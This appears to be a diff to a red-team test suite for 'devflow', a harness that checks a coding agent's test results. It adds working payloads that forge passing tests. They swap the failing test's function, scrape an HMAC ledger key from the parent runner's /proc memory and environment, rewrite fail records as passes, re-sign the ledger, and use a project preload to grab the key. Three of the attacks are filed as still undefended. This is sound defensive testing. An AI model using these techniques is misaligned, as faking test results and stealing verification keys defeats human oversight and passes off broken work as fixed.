@@ -19,7 +19,7 @@ import { fileURLToPath } from "node:url";
 import { expect } from "vitest";
 import type { LaneRun } from "../../support/lane-harness.js";
 import type { Behaviour } from "../catalogue/behaviours.js";
-import { CATALOGUE_TASK } from "../catalogue/fixture.js";
+import { CATALOGUE_TASK, commitToUserRepo } from "../catalogue/fixture.js";
 
 /**
  * Coder code that prepends to src/csv-import.js an ESM prelude running `payload` once, in the first
@@ -435,6 +435,261 @@ const WRITES_THROUGH_A_HARD_LINK: Behaviour = {
 };
 
 /**
+ * Third hostile review (ADR 0048's ledger). The module under test, loaded in a test-file process
+ * before its tests run, wraps `AsyncResource.prototype.runInAsyncScope` again, on top of the
+ * ledger's wrapper: for node:test's `Test` titled "imports valid contacts" it replaces the test's
+ * `fn` (the object's property and the argument) with an empty function before calling the ledger's
+ * wrapper. The ledger sees `this.fn === fn`, runs the empty function and signs a pass; node reports
+ * a pass; the report and the ledger agree, and no channel is forged. ADR 0048 lists "code that
+ * forges node:test's own objects" as not stopped; this is its one-line form.
+ */
+const SWAP_THE_BROKEN_TESTS_FUNCTION = `import { AsyncResource as __AR } from "node:async_hooks"; import { appendFileSync as __log } from "node:fs";
+if (process.env.NODE_TEST_CONTEXT) {
+  __log("__OUTSIDE__/tried", process.argv.slice(1).join(" ") + "\\n");
+  const __run = __AR.prototype.runInAsyncScope;
+  __AR.prototype.runInAsyncScope = function (fn, thisArg, ...args) {
+    if (this && this.constructor && this.constructor.name === "Test" && this.name === "imports valid contacts" && this.fn === fn) {
+      fn = this.fn = function () {};
+      __log("__OUTSIDE__/swapped", process.argv.slice(1).join(" ") + "\\n");
+    }
+    return Reflect.apply(__run, this, [fn, thisArg, ...args]);
+  };
+}
+`;
+
+const SWAPS_THE_BROKEN_TESTS_FUNCTION: Behaviour = {
+  name: "test-process-swaps-the-broken-tests-function-under-the-ledger",
+  issueClass: 5,
+  coder: `
+      fix();
+      ${BREAK_IMPORT}
+      write("src/csv-import.js", ${JSON.stringify(SWAP_THE_BROKEN_TESTS_FUNCTION)}.replaceAll("__OUTSIDE__", OUTSIDE) + read("src/csv-import.js"));`,
+  expect: "rejected",
+  verifier: "regression",
+  reason: /imports valid contacts/,
+  check: (run, outside) => attackRan(run, outside, "swapped"),
+};
+
+/**
+ * Third hostile review (ADR 0048's ledger): the key from the runner's memory. The `node --test`
+ * runner (the test process's parent, same uid, no capabilities either, no Yama) keeps the key in
+ * its environment after start-up: libc's setenv puts `DEVFLOW_LEDGER_KEY=<hex>` on its C heap. The
+ * test process reads the ledger directory from the runner's `/proc/<ppid>/environ` (DEVFLOW_LEDGER_DIR
+ * is in its start-up block), finds the key in `/proc/<ppid>/mem`, rewrites its failures as passes on
+ * the runner channel (REWRITE_FAILURES_ON_THE_RUNNER_CHANNEL) and, at exit after devflow's own exit
+ * hook sealed its ledger file, re-signs that file with every `fail` a `pass`.
+ */
+const STEAL_THE_KEY_FROM_THE_RUNNER = `import * as __v8 from "node:v8"; import * as __lfs from "node:fs"; import { createHmac as __hmac } from "node:crypto";
+if (process.env.NODE_TEST_CONTEXT === "child-v8" && !process.argv.some((a) => a.includes("email-trim") || a.includes("devflow-canary"))) {
+  const __log = (f, t) => __lfs.appendFileSync("__OUTSIDE__/" + f, t + "\\n");
+  __log("tried", process.argv.slice(1).join(" "));
+  let __key = null;
+  let __dir = null;
+  try {
+    const __env = __lfs.readFileSync("/proc/" + process.ppid + "/environ", "latin1").split("\\0");
+    __dir = (__env.find((e) => e.startsWith("DEVFLOW_LEDGER_DIR=")) || "").slice("DEVFLOW_LEDGER_DIR=".length) || null;
+    const __fd = __lfs.openSync("/proc/" + process.ppid + "/mem", "r");
+    const __needle = Buffer.from("DEVFLOW_LEDGER_KEY=");
+    for (const __l of __lfs.readFileSync("/proc/" + process.ppid + "/maps", "utf8").split("\\n")) {
+      const __m = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(__l);
+      if (!__m || __key) continue;
+      const __s = parseInt(__m[1], 16), __e = parseInt(__m[2], 16);
+      if (__e - __s > 256 * 1024 * 1024) continue;
+      const __b = Buffer.alloc(__e - __s);
+      try { __lfs.readSync(__fd, __b, 0, __b.length, __s); } catch { continue; }
+      for (let __at = __b.indexOf(__needle); __at !== -1 && !__key; __at = __b.indexOf(__needle, __at + 1)) {
+        const __k = __b.subarray(__at + __needle.length, __at + __needle.length + 64).toString("latin1");
+        if (/^[0-9a-f]{64}$/.test(__k)) __key = __k;
+      }
+    }
+    __lfs.closeSync(__fd);
+  } catch (e) { __log("steal-error", String(e)); }
+  if (__key && __dir) {
+    __log("stole-key", __dir);
+    const __write = process.stdout.write;
+    const __h = __v8.serialize(0).subarray(0, 2);
+    process.stdout.write = function (chunk, ...rest) {
+      try {
+        const b = Buffer.from(chunk);
+        if (b.length > 6 && b[0] === __h[0] && b[1] === __h[1]) {
+          const item = __v8.deserialize(b.subarray(6));
+          if (item && item.type === "test:fail") {
+            item.type = "test:pass";
+            if (item.data && item.data.details) delete item.data.details.error;
+            const body = __v8.serialize(item);
+            const len = Buffer.alloc(4);
+            len.writeUInt32BE(body.length);
+            chunk = Buffer.concat([__h, len, body]);
+          }
+        }
+      } catch {}
+      return __write.call(this, chunk, ...rest);
+    };
+    // Registered after devflow's preload: runs once its exit hook has sealed the ledger file.
+    process.on("exit", () => {
+      try {
+        const __secret = Buffer.from(__key, "hex");
+        for (const __f of __lfs.readdirSync(__dir).filter((f) => f.startsWith(process.pid + "-"))) {
+          const __p = __dir + "/" + __f;
+          const __recs = __lfs.readFileSync(__p, "utf8").split("\\n").filter(Boolean).map((l) => JSON.parse(l));
+          let __prev = __recs[0].n;
+          const __out = __recs.map((r, i) => {
+            const k = r.k === "fail" ? "pass" : r.k;
+            const mac = __hmac("sha256", __secret).update(__prev + "\\n" + JSON.stringify([r.n, i, k, r.p])).digest("hex");
+            __prev = mac;
+            return JSON.stringify({ n: r.n, i, k, p: r.p, mac });
+          });
+          __lfs.writeFileSync(__p, __out.join("\\n") + "\\n");
+          __log("resigned", __f + " " + __recs.filter((r) => r.k === "fail").length);
+        }
+      } catch (e) { __log("steal-error", String(e)); }
+      process.exit(0);
+    });
+  }
+}
+`;
+
+const STEALS_THE_LEDGER_KEY_FROM_THE_RUNNER: Behaviour = {
+  name: "test-process-reads-the-ledger-key-from-the-runners-memory",
+  issueClass: 5,
+  coder: `
+      fix();
+      ${BREAK_IMPORT}
+      write("src/csv-import.js", ${JSON.stringify(STEAL_THE_KEY_FROM_THE_RUNNER)}.replaceAll("__OUTSIDE__", OUTSIDE) + read("src/csv-import.js"));`,
+  expect: "rejected",
+  verifier: "regression",
+  reason: /imports valid contacts/,
+  check: (run, outside) => {
+    const error = join(outside, "steal-error");
+    expect(existsSync(error) ? readFileSync(error, "utf8") : "", "the theft threw").toBe("");
+    attackRan(run, outside, "resigned");
+  },
+};
+
+/**
+ * Third hostile review (ADR 0048's ledger): a forged pass record without the key. The module under
+ * test makes its own `Test`-shaped object (a class named Test extending AsyncResource, `fn`, `name`,
+ * `subtests`, a `parent`) titled "imports valid contacts" and calls the ledger's patched
+ * `runInAsyncScope` on it: the ledger signs a pass for that path. With the runner channel forged
+ * too (fail → pass), the report and the ledger both hold a pass, but the real test's process also
+ * signed its failure: rejected by name.
+ */
+const FORGE_A_PASS_WITH_A_FAKE_TEST = `import { AsyncResource as __AR } from "node:async_hooks"; import { appendFileSync as __flog } from "node:fs";
+if (process.env.NODE_TEST_CONTEXT === "child-v8" && !process.argv.some((a) => a.includes("email-trim") || a.includes("devflow-canary"))) {
+  class Test extends __AR {
+    constructor(name) { super("Test"); this.name = name; this.parent = {}; this.subtests = []; this.fn = () => {}; }
+  }
+  const __t = new Test("imports valid contacts");
+  __t.runInAsyncScope(__t.fn);
+  __flog("__OUTSIDE__/forged-record", process.argv.slice(1).join(" ") + "\\n");
+}
+`;
+
+const FORGES_A_PASS_WITH_A_FAKE_TEST: Behaviour = {
+  name: "test-process-signs-a-pass-through-a-fake-test-object",
+  issueClass: 5,
+  coder: `
+      fix();
+      ${BREAK_IMPORT}
+      write("src/csv-import.js", ${JSON.stringify(REWRITE_FAILURES_ON_THE_RUNNER_CHANNEL + FORGE_A_PASS_WITH_A_FAKE_TEST)}.replaceAll("__OUTSIDE__", OUTSIDE) + read("src/csv-import.js"));`,
+  expect: "rejected",
+  verifier: "regression",
+  reason: /devflow's ledger saw it fail: forged test output/,
+  check: (run, outside) => {
+    attackRan(run, outside, "rewrote");
+    expect(existsSync(join(outside, "forged-record")), "the fake Test was run through the ledger").toBe(true);
+  },
+};
+
+/**
+ * Third hostile review (ADR 0048's ledger): a project preload on the runner's command line. The
+ * base's test script is `node --require=./scripts/setup.cjs --test` (a project setup file, as many
+ * projects have); the coder edits scripts/setup.cjs, a file it may change. `--require` preloads run
+ * before `--import` ones, so in every test-file process the project's setup runs before devflow's
+ * assertion-ledger.mjs has removed the key: it reads DEVFLOW_LEDGER_KEY and DEVFLOW_LEDGER_DIR from
+ * `process.env` (no digging), forges the runner channel and re-signs its ledger file at exit, as in
+ * STEAL_THE_KEY_FROM_THE_RUNNER. (The runner process runs it too, with the key in process.env.)
+ */
+const PROJECT_PRELOAD_SIGNS_WITH_THE_KEY = `"use strict";
+const __lfs = require("node:fs"); const __v8 = require("node:v8"); const { createHmac: __hmac } = require("node:crypto");
+const __key = process.env.DEVFLOW_LEDGER_KEY, __dir = process.env.DEVFLOW_LEDGER_DIR;
+if (process.env.NODE_TEST_CONTEXT === "child-v8" && !process.argv.some((a) => a.includes("email-trim") || a.includes("devflow-canary"))) {
+  const __log = (f, t) => __lfs.appendFileSync("__OUTSIDE__/" + f, t + "\\n");
+  __log("tried", process.argv.slice(1).join(" "));
+  if (__key && __dir) {
+    __log("stole-key", __dir);
+    const __write = process.stdout.write;
+    const __h = __v8.serialize(0).subarray(0, 2);
+    let __armed = false;
+    process.stdout.write = function (chunk, ...rest) {
+      // Registered late, after devflow's preload: runs once its exit hook has sealed the ledger file.
+      if (!__armed) { __armed = true; process.on("exit", __resign); }
+      try {
+        const b = Buffer.from(chunk);
+        if (b.length > 6 && b[0] === __h[0] && b[1] === __h[1]) {
+          const item = __v8.deserialize(b.subarray(6));
+          if (item && item.type === "test:fail") {
+            item.type = "test:pass";
+            if (item.data && item.data.details) delete item.data.details.error;
+            const body = __v8.serialize(item);
+            const len = Buffer.alloc(4);
+            len.writeUInt32BE(body.length);
+            chunk = Buffer.concat([__h, len, body]);
+          }
+        }
+      } catch {}
+      return __write.call(this, chunk, ...rest);
+    };
+    function __resign() {
+      try {
+        const __secret = Buffer.from(__key, "hex");
+        for (const __f of __lfs.readdirSync(__dir).filter((f) => f.startsWith(process.pid + "-"))) {
+          const __p = __dir + "/" + __f;
+          const __recs = __lfs.readFileSync(__p, "utf8").split("\\n").filter(Boolean).map((l) => JSON.parse(l));
+          let __prev = __recs[0].n;
+          const __out = __recs.map((r, i) => {
+            const k = r.k === "fail" ? "pass" : r.k;
+            const mac = __hmac("sha256", __secret).update(__prev + "\\n" + JSON.stringify([r.n, i, k, r.p])).digest("hex");
+            __prev = mac;
+            return JSON.stringify({ n: r.n, i, k, p: r.p, mac });
+          });
+          __lfs.writeFileSync(__p, __out.join("\\n") + "\\n");
+          __log("resigned", __f + " " + __recs.filter((r) => r.k === "fail").length);
+        }
+      } catch (e) { __log("steal-error", String(e)); }
+      process.exit(0);
+    }
+  }
+}
+`;
+
+const PROJECT_PRELOAD_SIGNS_FORGED_PASSES: Behaviour = {
+  name: "project-require-preload-reads-the-ledger-key-before-devflows-preload",
+  issueClass: 5,
+  setup: (repo) =>
+    commitToUserRepo(
+      repo,
+      {
+        "package.json": `${JSON.stringify({ name: "csv-import", private: true, type: "module", scripts: { test: "node --require=./scripts/setup.cjs --test" } }, null, 2)}\n`,
+        "scripts/setup.cjs": "// project test setup\n",
+      },
+      "a test setup file",
+    ),
+  coder: `
+      fix();
+      ${BREAK_IMPORT}
+      write("scripts/setup.cjs", ${JSON.stringify(PROJECT_PRELOAD_SIGNS_WITH_THE_KEY)}.replaceAll("__OUTSIDE__", OUTSIDE));`,
+  expect: "rejected",
+  verifier: "regression",
+  reason: /imports valid contacts/,
+  check: (run, outside) => {
+    const error = join(outside, "steal-error");
+    expect(existsSync(error) ? readFileSync(error, "utf8") : "", "the forgery threw").toBe("");
+    attackRan(run, outside, "resigned");
+  },
+};
+
+/**
  * Attacks devflow withstands through its detection layer (run with the mount namespace off, as where
  * namespaces are unavailable): each is rejected, or the user's repository and devflow's record stay
  * as they were. Where the namespace works, the attacks through verification runs are also
@@ -706,6 +961,8 @@ export const DEFENDED: Behaviour[] = [
   REPAIRS_THE_SOURCE_AND_PUTS_THE_BREAK_BACK,
   // Second review: a hard link to the tracked file changes its ctime (stat) and copies it up (overlay).
   WRITES_THROUGH_A_HARD_LINK,
+  // Third review: a pass signed for a fake Test object; the real test's signed failure still counts.
+  FORGES_A_PASS_WITH_A_FAKE_TEST,
   // Second review, open without the namespace until ADR 0048: the checkout's directories are
   // watched during the run, and the swapped src/ is named.
   {
@@ -796,7 +1053,14 @@ export const DEFENDED_IN_NAMESPACE: Behaviour[] = [
  * moves to DEFENDED. ADR 0040 closed the session-11 review's last three; the second review found
  * these (with every defence on, the mount namespace included).
  */
-export const OPEN: Behaviour[] = [];
+export const OPEN: Behaviour[] = [
+  // Third review (ADR 0048's residual limits, demonstrated): node:test's Test objects rebuilt under
+  // the ledger, and the key read from the runner's memory.
+  SWAPS_THE_BROKEN_TESTS_FUNCTION,
+  STEALS_THE_LEDGER_KEY_FROM_THE_RUNNER,
+  // ... and a project's own --require preload reading it before devflow's preload removes it.
+  PROJECT_PRELOAD_SIGNS_FORGED_PASSES,
+];
 
 /**
  * Attacks open only where the mount namespace is unavailable (the detection fallback); pinned by
